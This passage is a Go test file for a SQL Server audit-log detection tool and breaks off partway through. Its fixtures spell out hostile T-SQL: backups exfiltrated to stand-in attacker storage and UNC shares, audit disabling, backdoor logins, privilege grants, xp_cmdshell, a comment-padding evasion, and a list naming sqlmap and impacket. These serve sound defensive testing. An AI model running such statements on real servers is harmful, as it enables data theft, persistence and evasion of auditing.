package detect

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xelwatch/xelwatch/xel/audit"
)

type ruleCase struct {
	name   string
	cfg    func(*Config)
	recs   []audit.Record
	want   []string // findings of the rule under test, "RULE/severity"
	whyHas string   // substring of the first finding's Why
}

const (
	evilURL     = "BACKUP DATABASE [Sales] TO URL = N'https://evilacct.blob.core.windows.net/loot/sales.bak' WITH COPY_ONLY, COMPRESSION"
	approvedURL = "BACKUP DATABASE [Sales] TO URL = N'https://backupacct.blob.core.windows.net/sql/sales_2026.bak' WITH COPY_ONLY, COMPRESSION"
	approvedLog = "BACKUP LOG [Sales] TO URL = N'https://backupacct.blob.core.windows.net/sql/sales.trn'"
)

func repeat(n int, f func(i int) audit.Record) []audit.Record {
	out := make([]audit.Record, n)
	for i := range out {
		out[i] = f(i)
	}
	return out
}

func fails(n int, ipAddr string, principal func(i int) string, step time.Duration) []audit.Record {
	return repeat(n, func(i int) audit.Record {
		return rec("LGIF", "LX", "", by(principal(i)), ip(ipAddr), at(time.Duration(i)*step), app("Core .Net SqlClient Data Provider"))
	})
}

// paddedBackup is the evasion of issue 9: COPY_ONLY after a comment of n
// characters.
func paddedBackup(n int) string {
	return "BACKUP DATABASE [Sales] TO URL = N'https://evilacct.blob.core.windows.net/loot/sales.bak' /*" + strings.Repeat("x", n) + "*/ WITH COPY_ONLY"
}

// padTo appends a block comment so that s is n characters long.
func padTo(s string, n int) string {
	return s + " /*" + strings.Repeat("-", n-len(s)-5) + "*/"
}

func same(p string) func(int) string { return func(int) string { return p } }

var ruleCases = map[string][]ruleCase{
	"EXF-001": {
		{name: "url not allow-listed", recs: []audit.Record{rec("BA", "DB", evilURL)}, want: []string{"EXF-001/high"}, whyHas: "url https://evilacct.blob.core.windows.net/loot/sales.bak"},
		{name: "allow-listed url", recs: []audit.Record{rec("BA", "DB", approvedURL)}},
		{name: "prefix lookalike host", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net.evil.io/sql/x.bak'")}, want: []string{"EXF-001/high"}},
		{name: "prefix lookalike container", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sqlx/x.bak'")}, want: []string{"EXF-001/high"}},
		{name: "unc share", recs: []audit.Record{rec("BA", "DB", `BACKUP DATABASE s TO DISK = '\\attacker\drop\s.bak'`)}, want: []string{"EXF-001/high"}, whyHas: `disk \\attacker\drop\s.bak`},
		{name: "allow-listed unc", recs: []audit.Record{rec("BAL", "DB", `BACKUP LOG s TO DISK = '\\BACKUPSRV\sql\s.trn'`)}},
		{name: "path traversal out of allowed path", recs: []audit.Record{rec("BA", "DB", `BACKUP DATABASE s TO DISK = 'D:\Backups\..\Public\s.bak'`)}, want: []string{"EXF-001/high"}},
		{name: "second stripe foreign", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/1.bak', URL = 'https://evil.blob.core.windows.net/c/2.bak'")}, want: []string{"EXF-001/high"}, whyHas: "evil.blob"},
		{name: "variable destination", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE @db TO DISK = @path")}, want: []string{"EXF-001/high"}, whyHas: "unknown location (variable @path)"},
		{name: "truncated statement", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/x")}, want: []string{"EXF-001/high"}, whyHas: "unknown location"},
		{name: "cut at 4000 characters by the service", recs: []audit.Record{rec("BA", "DB", padTo("BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/a.bak' WITH COPY_ONLY", 4000), svc)}, want: []string{"EXF-001/high"}, whyHas: "cut at 4000"},
		{name: "long statement reassembled from parts", recs: []audit.Record{rec("BA", "DB", padTo("BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/a.bak' WITH COPY_ONLY", 4000), svc, func(r *audit.Record) { r.Parts = []audit.Record{{}, {}} })}},
		{name: "3999 characters", recs: []audit.Record{rec("BA", "DB", padTo("BACKUP DATABASE s TO URL = 'https://backupacct.blob.core.windows.net/sql/a.bak' WITH COPY_ONLY", 3999), svc)}},
		{name: "empty statement", recs: []audit.Record{rec("BA", "DB", "")}, want: []string{"EXF-001/high"}, whyHas: "unknown location"},
		{name: "allow-listed device", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO NightlyTape")}},
		{name: "failed backup is EXF-006", recs: []audit.Record{rec("BA", "DB", evilURL, failed)}},
		{name: "certificate is EXF-004", recs: []audit.Record{rec("BA", "CR", "BACKUP CERTIFICATE c TO FILE = 'c:\\temp\\c.cer'")}},
		{name: "per-rule destination allow", cfg: func(c *Config) {
			c.Rules = map[string]RuleConfig{"EXF-001": {AllowedBackupDestinations: []string{"evilacct"}}}
		}, recs: []audit.Record{rec("BA", "DB", evilURL)}},
	},
	"EXF-002": {
		{name: "copy_only by unknown principal", recs: []audit.Record{rec("BA", "DB", approvedURL)}, want: []string{"EXF-002/high"}, whyHas: `principal "CONTOSO\\alice"`},
		{name: "copy_only by approved actor", recs: []audit.Record{rec("BA", "DB", approvedURL, svc)}},
		{name: "approved principal, foreign app", recs: []audit.Record{rec("BA", "DB", approvedURL, svc, app("sqlcmd"))}, want: []string{"EXF-002/high"}},
		{name: "approved principal, foreign ip", recs: []audit.Record{rec("BA", "DB", approvedURL, svc, ip("192.168.7.7"))}, want: []string{"EXF-002/high"}},
		{name: "no copy_only", recs: []audit.Record{rec("BAL", "DB", approvedLog)}},
		{name: "copy_only after 600,000 characters of padding", recs: []audit.Record{rec("BA", "DB", paddedBackup(600_000))}, want: []string{"EXF-002/high"}},
		{name: "copy_only in the tail of an elided statement", recs: []audit.Record{rec("BA", "DB", paddedBackup(10), func(r *audit.Record) {
			r.Elided = audit.Elision{At: 90, Dropped: 9 << 20, Units: 10 << 20}
		})}, want: []string{"EXF-002/high"}},
		{name: "copy_only word in a literal only", recs: []audit.Record{rec("BA", "DB", "BACKUP DATABASE s TO DISK = 'D:\\Backups\\copy_only.bak'")}},
		{name: "severity override", cfg: func(c *Config) { c.SeverityOverrides = map[string]string{"EXF-002": "medium"} }, recs: []audit.Record{rec("BA", "DB", approvedURL)}, want: []string{"EXF-002/medium"}},
		{name: "disabled", cfg: func(c *Config) { c.DisabledRules = []string{"exf-002"} }, recs: []audit.Record{rec("BA", "DB", approvedURL)}},
	},
	"EXF-004": {
		{name: "certificate with private key", recs: []audit.Record{rec("BA", "CR", "BACKUP CERTIFICATE TDECert TO FILE = 'C:\\temp\\tde.cer' WITH PRIVATE KEY (FILE = 'C:\\temp\\tde.pvk', ENCRYPTION BY PASSWORD = 'Pa55')")}, want: []string{"EXF-004/high"}, whyHas: "CERTIFICATE tdecert"},
		{name: "service master key", recs: []audit.Record{rec("BA", "MK", "BACKUP SERVICE MASTER KEY TO FILE = '\\\\evil\\k\\smk' ENCRYPTION BY PASSWORD = 'x'")}, want: []string{"EXF-004/high"}},
		{name: "symmetric key class only", recs: []audit.Record{rec("BA", "SK", "")}, want: []string{"EXF-004/high"}},
		{name: "approved actor to approved path", recs: []audit.Record{rec("BA", "CR", "BACKUP CERTIFICATE c TO FILE = 'D:\\Backups\\keys\\c.cer'", svc)}},
		{name: "approved path but unknown principal", recs: []audit.Record{rec("BA", "CR", "BACKUP CERTIFICATE c TO FILE = 'D:\\Backups\\keys\\c.cer'")}, want: []string{"EXF-004/high"}, whyHas: "principal not allow-listed"},
		{name: "database backup", recs: []audit.Record{rec("BA", "DB", evilURL)}},
	},
	"EXF-005": {
		{name: "sas credential for foreign storage", recs: []audit.Record{rec("CR", "CD", "CREATE CREDENTIAL [https://evilacct.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'sv=2022&sig=abc'")}, want: []string{"EXF-005/medium"}, whyHas: "https://evilacct.blob.core.windows.net/loot"},
		{name: "then backup by same principal", recs: []audit.Record{
			rec("CR", "CD", "CREATE CREDENTIAL [https://evilacct.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'x'"),
			rec("BA", "DB", evilURL, at(20*time.Minute)),
		}, want: []string{"EXF-005/medium", "EXF-005/high"}},
		{name: "backup after the window", recs: []audit.Record{
			rec("CR", "CD", "CREATE CREDENTIAL [https://evilacct.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'x'"),
			rec("BA", "DB", evilURL, at(61*time.Minute)),
		}, want: []string{"EXF-005/medium"}},
		{name: "backup by another principal", recs: []audit.Record{
			rec("CR", "CD", "CREATE CREDENTIAL [https://evilacct.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'x'"),
			rec("BA", "DB", evilURL, at(5*time.Minute), by(`CONTOSO\bob`)),
		}, want: []string{"EXF-005/medium"}},
		{name: "credential for allow-listed container", recs: []audit.Record{rec("CR", "DC", "CREATE DATABASE SCOPED CREDENTIAL [https://backupacct.blob.core.windows.net/sql] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'x'")}},
		{name: "windows credential", recs: []audit.Record{rec("CR", "CD", "CREATE CREDENTIAL agentproxy WITH IDENTITY = 'CONTOSO\\proxy', SECRET = 'x'")}},
	},
	"EXF-006": {
		{name: "failed to foreign url", recs: []audit.Record{rec("BA", "DB", evilURL, failed)}, want: []string{"EXF-006/medium"}, whyHas: "failed BACKUP DATABASE sales"},
		{name: "failed to allowed url", recs: []audit.Record{rec("BA", "DB", approvedURL, failed)}},
		{name: "succeeded", recs: []audit.Record{rec("BA", "DB", evilURL)}},
	},
	"EXF-007": {
		{name: "restore from foreign url", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales2 FROM URL = 'https://evilacct.blob.core.windows.net/x/s.bak'")}, want: []string{"EXF-007/medium"}, whyHas: "not allow-listed"},
		{name: "restore with replace from allowed", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales FROM DISK = 'D:\\Backups\\s.bak' WITH REPLACE")}, want: []string{"EXF-007/medium"}, whyHas: "WITH REPLACE"},
		{name: "restore from allowed", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales FROM DISK = 'D:\\Backups\\s.bak' WITH NORECOVERY")}},
		{name: "recovery only", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales WITH RECOVERY")}},
		{name: "headeronly", recs: []audit.Record{rec("RS", "DB", "RESTORE HEADERONLY FROM URL = 'https://evilacct.blob.core.windows.net/x/s.bak'")}},
		{name: "replace in maintenance window by approved principal", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales FROM DISK = 'D:\\Backups\\s.bak' WITH REPLACE", by(`CONTOSO\dba`), func(r *audit.Record) { r.EventTime = time.Date(2026, 11, 21, 2, 0, 0, 0, time.UTC) })}},
		{name: "replace in maintenance window by other principal", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales FROM DISK = 'D:\\Backups\\s.bak' WITH REPLACE", func(r *audit.Record) { r.EventTime = time.Date(2026, 11, 21, 2, 0, 0, 0, time.UTC) })}, want: []string{"EXF-007/medium"}},
	},
	"AUD-001": {
		{name: "state off", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT [Main] WITH (STATE = OFF)", obj("Main"))}, want: []string{"AUD-001/critical"}, whyHas: "STATE = OFF"},
		{name: "drop", recs: []audit.Record{rec("DR", "A", "DROP SERVER AUDIT Main", obj("Main"))}, want: []string{"AUD-001/critical"}},
		{name: "alter target", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main TO FILE (FILEPATH = 'C:\\tmp\\')", obj("Main"))}, want: []string{"AUD-001/high"}, whyHas: `filepath=C:\tmp\`},
		{name: "comment hides nothing", recs: []audit.Record{rec("AL", "A", "ALTER /* routine */ SERVER AUDIT Main WITH (STATE /* x */ = /* y */ OFF)")}, want: []string{"AUD-001/critical"}},
		{name: "AUSC state off", recs: []audit.Record{rec("AUSC", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)")}, want: []string{"AUD-001/critical"}},
		{name: "AUSC start", recs: []audit.Record{rec("AUSC", "A", "")}},
		{name: "spec change is AUD-002", recs: []audit.Record{rec("AL", "SA", "ALTER SERVER AUDIT SPECIFICATION s WITH (STATE = OFF)")}},
		{name: "create", recs: []audit.Record{rec("CR", "A", "CREATE SERVER AUDIT x TO FILE (FILEPATH = 'D:\\a\\')")}},
	},
	"AUD-002": {
		{name: "drop backup group", recs: []audit.Record{rec("AL", "SA", "ALTER SERVER AUDIT SPECIFICATION s FOR SERVER AUDIT a DROP (BACKUP_RESTORE_GROUP)")}, want: []string{"AUD-002/critical"}, whyHas: "DROP (BACKUP_RESTORE_GROUP)"},
		{name: "state off db spec", recs: []audit.Record{rec("AL", "DA", "ALTER DATABASE AUDIT SPECIFICATION d WITH (STATE = OFF)")}, want: []string{"AUD-002/critical"}},
		{name: "drop spec", recs: []audit.Record{rec("DR", "SA", "DROP SERVER AUDIT SPECIFICATION s", obj("s"))}, want: []string{"AUD-002/critical"}},
		{name: "drop harmless group", recs: []audit.Record{rec("AL", "SA", "ALTER SERVER AUDIT SPECIFICATION s DROP (DBCC_GROUP)")}, want: []string{"AUD-002/high"}, whyHas: "DROP (dbcc_group)"},
		{name: "add group", recs: []audit.Record{rec("AL", "SA", "ALTER SERVER AUDIT SPECIFICATION s ADD (FAILED_LOGIN_GROUP)")}, want: []string{"AUD-002/high"}},
		{name: "server audit", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT a WITH (STATE = OFF)")}},
	},
	"AUD-003": {
		{name: "predicate", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main WHERE server_principal_name <> 'CONTOSO\\mallory'")}, want: []string{"AUD-003/high"}, whyHas: "server_principal_name <> 'CONTOSO\\mallory'"},
		{name: "remove where", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main REMOVE WHERE")}},
		{name: "where in a literal", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main TO FILE (FILEPATH = 'C:\\where\\')")}},
	},
	"AUD-004": {
		{name: "on_failure continue", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main WITH (ON_FAILURE = CONTINUE)")}, want: []string{"AUD-004/medium"}, whyHas: "ON_FAILURE = CONTINUE"},
		{name: "rollover files", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main TO FILE (MAX_ROLLOVER_FILES = 1)")}, want: []string{"AUD-004/medium"}, whyHas: "max_rollover_files=1"},
		{name: "state only", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = ON)")}},
		{name: "maintenance window", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main WITH (QUEUE_DELAY = 1000)", by(`CONTOSO\dba`), func(r *audit.Record) { r.EventTime = time.Date(2026, 11, 21, 1, 30, 0, 0, time.UTC) })}},
		{name: "outside maintenance window", recs: []audit.Record{rec("AL", "A", "ALTER SERVER AUDIT Main WITH (QUEUE_DELAY = 1000)", by(`CONTOSO\dba`), func(r *audit.Record) { r.EventTime = time.Date(2026, 11, 21, 5, 0, 0, 0, time.UTC) })}, want: []string{"AUD-004/medium"}},
	},
	"AUD-005": {
		{name: "audit created by unknown", recs: []audit.Record{rec("CR", "A", "CREATE SERVER AUDIT Shadow TO APPLICATION_LOG")}, want: []string{"AUD-005/low"}, whyHas: "shadow"},
		{name: "spec created by dba from ssms", recs: []audit.Record{rec("CR", "SA", "CREATE SERVER AUDIT SPECIFICATION s FOR SERVER AUDIT a", by(`CONTOSO\dba`), ip("10.0.1.9"))}},
		{name: "dba from foreign ip", recs: []audit.Record{rec("CR", "SA", "CREATE SERVER AUDIT SPECIFICATION s FOR SERVER AUDIT a", by(`CONTOSO\dba`), ip("10.9.9.9"))}, want: []string{"AUD-005/low"}},
		{name: "database create", recs: []audit.Record{rec("CR", "DB", "CREATE DATABASE x")}},
	},
	"AUD-006": {
		{name: "tamper then backup same principal", recs: []audit.Record{
			rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)"),
			rec("BA", "DB", evilURL, at(10*time.Minute)),
		}, want: []string{"AUD-006/critical"}, whyHas: "audit weakened by CONTOSO\\alice"},
		{name: "backup processed before tamper", recs: []audit.Record{
			rec("BA", "DB", evilURL, at(10*time.Minute)),
			rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)"),
		}, want: []string{"AUD-006/critical"}},
		{name: "different principal", recs: []audit.Record{
			rec("AL", "SA", "ALTER SERVER AUDIT SPECIFICATION s DROP (BACKUP_RESTORE_GROUP)", by(`CONTOSO\bob`)),
			rec("BA", "DB", approvedURL, at(30*time.Minute), svc),
		}, want: []string{"AUD-006/high"}},
		{name: "outside window", recs: []audit.Record{
			rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)"),
			rec("BA", "DB", evilURL, at(61*time.Minute)),
		}},
		{name: "other server", recs: []audit.Record{
			rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = OFF)"),
			rec("BA", "DB", evilURL, at(time.Minute), server("sql02")),
		}},
		{name: "re-enable only", recs: []audit.Record{
			rec("AL", "A", "ALTER SERVER AUDIT Main WITH (STATE = ON)"),
			rec("BA", "DB", approvedURL, at(time.Minute), svc),
		}},
		{name: "backup then audit re-enabled", recs: []audit.Record{
			rec("BA", "DB", evilURL),
			rec("AUSC", "A", "", at(15*time.Minute)),
		}, want: []string{"AUD-006/critical"}, whyHas: "then audit re-enabled"},
		{name: "approved backup then service restart", recs: []audit.Record{
			rec("BA", "DB", approvedURL, svc),
			rec("AUSC", "A", "", at(15*time.Minute), by("sa")),
		}},
		{name: "tamper then staged credential", recs: []audit.Record{
			rec("AL", "A", "ALTER SERVER AUDIT Main WHERE action_id <> 'BA'"),
			rec("CR", "CD", "CREATE CREDENTIAL [https://evilacct.blob.core.windows.net/loot] WITH IDENTITY = 'SHARED ACCESS SIGNATURE', SECRET = 'x'", at(5*time.Minute)),
		}, want: []string{"AUD-006/critical"}, whyHas: "then credential"},
	},
	"AUD-007": {
		{name: "write failure", recs: []audit.Record{rec("AUSF", "A", "")}, want: []string{"AUD-007/high"}},
		{name: "session change", recs: []audit.Record{rec("AUSC", "A", "")}},
	},
	"PRV-001": {
		{name: "sysadmin member", recs: []audit.Record{rec("APRL", "SG", "ALTER SERVER ROLE [sysadmin] ADD MEMBER [CONTOSO\\mallory]", obj("sysadmin"), target(`CONTOSO\mallory`))}, want: []string{"PRV-001/high"}, whyHas: "CONTOSO\\mallory to server role sysadmin"},
		{name: "harmless server role", recs: []audit.Record{rec("APRL", "SG", "ALTER SERVER ROLE reporting ADD MEMBER x", obj("reporting"))}},
		{name: "statement in batch", recs: []audit.Record{rec("BCM", "", "EXEC sp_addsrvrolemember 'CONTOSO\\mallory', 'securityadmin'")}, want: []string{"PRV-001/high"}, whyHas: "securityadmin"},
		{name: "db role statement", recs: []audit.Record{rec("BCM", "", "ALTER ROLE db_owner ADD MEMBER bob")}},
	},
	"PRV-002": {
		{name: "db_owner member", recs: []audit.Record{rec("APRL", "RL", "", obj("db_owner"), func(r *audit.Record) { r.TargetDatabasePrincipalName = "bob" })}, want: []string{"PRV-002/medium"}, whyHas: "bob to database role db_owner"},
		{name: "statement", recs: []audit.Record{rec("BCM", "", "alter role [db_backupoperator] add member [bob]")}, want: []string{"PRV-002/medium"}},
		{name: "datareader", recs: []audit.Record{rec("APRL", "RL", "", obj("db_datareader"))}},
		{name: "server role statement", recs: []audit.Record{rec("BCM", "", "ALTER SERVER ROLE db_owner ADD MEMBER bob")}},
	},
	"PRV-003": {
		{name: "control server", recs: []audit.Record{rec("G", "SR", "GRANT CONTROL SERVER TO [CONTOSO\\mallory]", target(`CONTOSO\mallory`))}, want: []string{"PRV-003/high"}, whyHas: "CONTROL SERVER"},
		{name: "impersonate", recs: []audit.Record{rec("GWG", "SR", "GRANT IMPERSONATE ON LOGIN::sa TO bob WITH GRANT OPTION")}, want: []string{"PRV-003/high"}},
		{name: "database control", recs: []audit.Record{rec("G", "DB", "GRANT CONTROL ON DATABASE::Sales TO bob")}, want: []string{"PRV-003/high"}},
		{name: "select", recs: []audit.Record{rec("G", "DB", "GRANT SELECT ON SCHEMA::dbo TO reporting")}},
		{name: "object class", recs: []audit.Record{rec("G", "U", "GRANT CONTROL ON dbo.t TO bob")}},
	},
	"PRV-004": {
		{name: "login created", recs: []audit.Record{rec("CR", "SL", "CREATE LOGIN backdoor WITH PASSWORD = 'P@ss'", obj("backdoor"))}, want: []string{"PRV-004/medium"}, whyHas: "created login backdoor"},
		{name: "sa enabled", recs: []audit.Record{rec("AL", "SL", "ALTER LOGIN sa ENABLE", obj("sa"))}, want: []string{"PRV-004/high"}, whyHas: "ENABLE"},
		{name: "check_policy off", recs: []audit.Record{rec("AL", "SL", "ALTER LOGIN bob WITH CHECK_POLICY = OFF", obj("bob"))}, want: []string{"PRV-004/medium"}},
		{name: "password reset of other", recs: []audit.Record{rec("PWR", "LX", "", target("bob"))}, want: []string{"PRV-004/medium"}},
		{name: "own password", recs: []audit.Record{rec("PWR", "LX", "", target(`CONTOSO\alice`))}},
		{name: "alter login default db", recs: []audit.Record{rec("AL", "SL", "ALTER LOGIN bob WITH DEFAULT_DATABASE = Sales", obj("bob"))}},
		{name: "created by dba", recs: []audit.Record{rec("CR", "SL", "CREATE LOGIN app1 WITH PASSWORD = 'x'", by(`CONTOSO\dba`), ip("10.0.1.4"))}},
	},
	"PRV-005": {
		{name: "impersonate sa", recs: []audit.Record{rec("IMP", "LX", "EXECUTE AS LOGIN = 'sa'", target("sa"))}, want: []string{"PRV-005/medium"}, whyHas: "privileged principal sa"},
		{name: "statement execute as", recs: []audit.Record{rec("BCM", "", "EXECUTE AS LOGIN = 'sa'; SELECT 1; REVERT")}, want: []string{"PRV-005/medium"}},
		{name: "impersonate app user", recs: []audit.Record{rec("IMP", "US", "EXECUTE AS USER = 'app'", func(r *audit.Record) { r.TargetDatabasePrincipalName = "app" })}},
	},
	"PRV-006": {
		{name: "sp_procoption startup", recs: []audit.Record{rec("BCM", "", "EXEC sp_procoption @ProcName = N'dbo.bd', @OptionName = 'startup', @OptionValue = 'on'")}, want: []string{"PRV-006/high"}},
		{name: "EX object", recs: []audit.Record{rec("EX", "P", "EXEC sp_procoption 'dbo.bd', 'startup', 'on'", obj("sp_procoption"))}, want: []string{"PRV-006/high"}},
		{name: "mention in literal", recs: []audit.Record{rec("BCM", "", "SELECT 'sp_procoption startup'")}},
	},
	"PRV-007": {
		{name: "database owner", recs: []audit.Record{rec("TO", "DB", "ALTER AUTHORIZATION ON DATABASE::Sales TO mallory", obj("Sales"), target("mallory"))}, want: []string{"PRV-007/medium"}, whyHas: "to mallory"},
		{name: "schema owner", recs: []audit.Record{rec("TO", "SC", "ALTER AUTHORIZATION ON SCHEMA::s TO bob")}},
	},
	"PRV-008": {
		{name: "role member removed", recs: []audit.Record{rec("DPRL", "SG", "", obj("sysadmin"), target(`CONTOSO\dba`))}, want: []string{"PRV-008/low"}},
		{name: "login disabled", recs: []audit.Record{rec("LGDA", "SL", "ALTER LOGIN bob DISABLE", obj("bob"))}, want: []string{"PRV-008/low"}},
		{name: "in maintenance by dba", recs: []audit.Record{rec("LGDA", "SL", "", obj("bob"), by(`CONTOSO\dba`), func(r *audit.Record) { r.EventTime = time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC) })}},
		{name: "member added", recs: []audit.Record{rec("APRL", "SG", "", obj("sysadmin"))}},
	},
	"AUTH-001": {
		{name: "eight failures in ten minutes", recs: fails(8, "203.0.113.9", same("sa"), time.Minute), want: []string{"AUTH-001/medium"}, whyHas: "8 failed logins from 203.0.113.9"},
		{name: "thirty failures fire once", recs: fails(30, "10.2.0.9", same("sa"), 10*time.Second), want: []string{"AUTH-001/medium"}},
		{name: "seven failures", recs: fails(7, "10.2.0.9", same("sa"), time.Minute)},
		{name: "eight spread over eighty minutes", recs: fails(8, "10.2.0.9", same("sa"), 11*time.Minute)},
		{name: "eight from different sources", recs: repeat(8, func(i int) audit.Record {
			return rec("LGIF", "LX", "", ip(fmt.Sprintf("10.2.0.%d", i)), at(time.Duration(i)*time.Second))
		})},
		{name: "threshold setting", cfg: func(c *Config) { c.BruteForceThreshold = 3 }, recs: fails(3, "10.2.0.9", same("sa"), time.Minute), want: []string{"AUTH-001/medium"}},
	},
	"AUTH-002": {
		{name: "five principals", recs: fails(5, "10.3.0.7", func(i int) string { return fmt.Sprintf("user%d", i) }, 2*time.Minute), want: []string{"AUTH-002/high"}, whyHas: "5 distinct principals"},
		{name: "four principals many times", recs: fails(40, "10.3.0.7", func(i int) string { return fmt.Sprintf("user%d", i%4) }, 20*time.Second)},
		{name: "five principals over an hour", recs: fails(5, "10.3.0.7", func(i int) string { return fmt.Sprintf("user%d", i) }, 10*time.Minute)},
	},
	"AUTH-003": {
		{name: "success after brute force", recs: append(fails(8, "10.4.0.1", same("sa"), 30*time.Second),
			rec("LGIS", "LX", "", by("sa"), ip("10.4.0.1"), at(6*time.Minute))), want: []string{"AUTH-003/high"}, whyHas: "after a brute-force/spray finding (the failures from 10.4.0.1)"},
		{name: "success by sprayed principal from elsewhere", recs: append(fails(5, "10.4.0.2", func(i int) string { return fmt.Sprintf("u%d", i) }, time.Minute),
			rec("LGIS", "LX", "", by("u3"), ip("10.9.9.9"), at(10*time.Minute))), want: []string{"AUTH-003/high"}},
		{name: "success long after", recs: append(fails(8, "10.4.0.1", same("sa"), 30*time.Second),
			rec("LGIS", "LX", "", by("sa"), ip("10.4.0.1"), at(40*time.Minute)))},
		{name: "success after few failures", recs: append(fails(3, "10.4.0.1", same("sa"), 30*time.Second),
			rec("LGIS", "LX", "", by("sa"), ip("10.4.0.1"), at(2*time.Minute)))},
	},
	"AUTH-004": {
		{name: "public address", recs: []audit.Record{rec("DBAF", "DB", "", ip("203.0.113.50"))}, want: []string{"AUTH-004/medium"}, whyHas: "public address 203.0.113.50"},
		{name: "throttled", recs: fails(20, "198.51.100.7", same("sa"), time.Minute), want: []string{"AUTH-004/medium"}},
		{name: "private", recs: []audit.Record{rec("LGIF", "LX", "", ip("192.168.1.10"))}},
		{name: "local machine", recs: []audit.Record{rec("LGIF", "LX", "", ip("<local machine>"))}},
		{name: "allow-listed public", cfg: func(c *Config) { c.AllowedClientIPs = append(c.AllowedClientIPs, "203.0.113.0/24") }, recs: []audit.Record{rec("LGIF", "LX", "", ip("203.0.113.50"))}},
		{name: "success", recs: []audit.Record{rec("LGIS", "LX", "", ip("203.0.113.50"))}},
	},
	"AUTH-006": {
		{name: "sqlmap app", recs: []audit.Record{rec("LGIF", "LX", "", app("sqlmap/1.7"))}, want: []string{"AUTH-006/high"}, whyHas: "sqlmap"},
		{name: "impacket host", recs: []audit.Record{rec("LGIS", "LX", "", host("impacket-box"), app(""))}, want: []string{"AUTH-006/high"}},
		{name: "custom tool", cfg: func(c *Config) { c.AttackTools = []string{"evilscanner"} }, recs: []audit.Record{rec("DBAS", "DB", "", app("EvilScanner 2"))}, want: []string{"AUTH-006/high"}},
		{name: "ssms", recs: []audit.Record{rec("LGIS", "LX", "")}},
		{name: "allow-listed application", cfg: func(c *Config) { c.AllowedApplications = append(c.AllowedApplications, "nmap-inventory") }, recs: []audit.Record{rec("LGIS", "LX", "", app("nmap-inventory"))}},
	},
	"DES-001": {
		{name: "drop database", recs: []audit.Record{rec("DR", "DB", "DROP DATABASE Sales", obj("Sales"))}, want: []string{"DES-001/high"}},
		{name: "drop table record", recs: []audit.Record{rec("DR", "U", "DROP TABLE dbo.Orders", obj("Orders"))}, want: []string{"DES-001/medium"}},
		{name: "truncate in batch", recs: []audit.Record{rec("BCM", "", "TRUNCATE TABLE dbo.Orders")}, want: []string{"DES-001/medium"}, whyHas: "TRUNCATE TABLE dbo"},
		{name: "temp table", recs: []audit.Record{rec("BCM", "", "DROP TABLE IF EXISTS #work; SELECT 1")}},
		{name: "table by approved actor", recs: []audit.Record{rec("DR", "U", "DROP TABLE dbo.Staging", svc)}},
	},
	"DES-003": {
		{name: "replace", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales FROM DISK = 'D:\\Backups\\s.bak' WITH REPLACE")}, want: []string{"DES-003/medium"}},
		{name: "no replace", recs: []audit.Record{rec("RS", "DB", "RESTORE DATABASE Sales FROM DISK = 'D:\\Backups\\s.bak'")}},
	},
	"DES-004": {
		{name: "ledger", recs: []audit.Record{rec("ALLR", "U", "DROP LEDGER TABLE dbo.Payments", obj("Payments"))}, want: []string{"DES-004/high"}},
		{name: "ledger digest", recs: []audit.Record{rec("GDLR", "DB", "")}},
	},
	"DES-005": {
		{name: "shutdown", recs: []audit.Record{rec("SVSD", "SR", "SHUTDOWN")}, want: []string{"DES-005/low"}},
		{name: "paused", recs: []audit.Record{rec("SVPD", "SR", "")}, want: []string{"DES-005/low"}},
		{name: "started", recs: []audit.Record{rec("SVSR", "SR", "")}},
	},
	"EXE-001": {
		{name: "EX object", recs: []audit.Record{rec("EX", "X", "EXEC master..xp_cmdshell 'whoami'", obj("xp_cmdshell"))}, want: []string{"EXE-001/high"}},
		{name: "batch with comments and brackets", recs: []audit.Record{rec("BCM", "", "EXEC /*x*/ [master].[sys].[XP_CMDSHELL] N'dir c:\\'")}, want: []string{"EXE-001/high"}},
		{name: "sp_configure literal", recs: []audit.Record{rec("BCM", "", "EXEC sp_configure 'xp_cmdshell', 0")}},
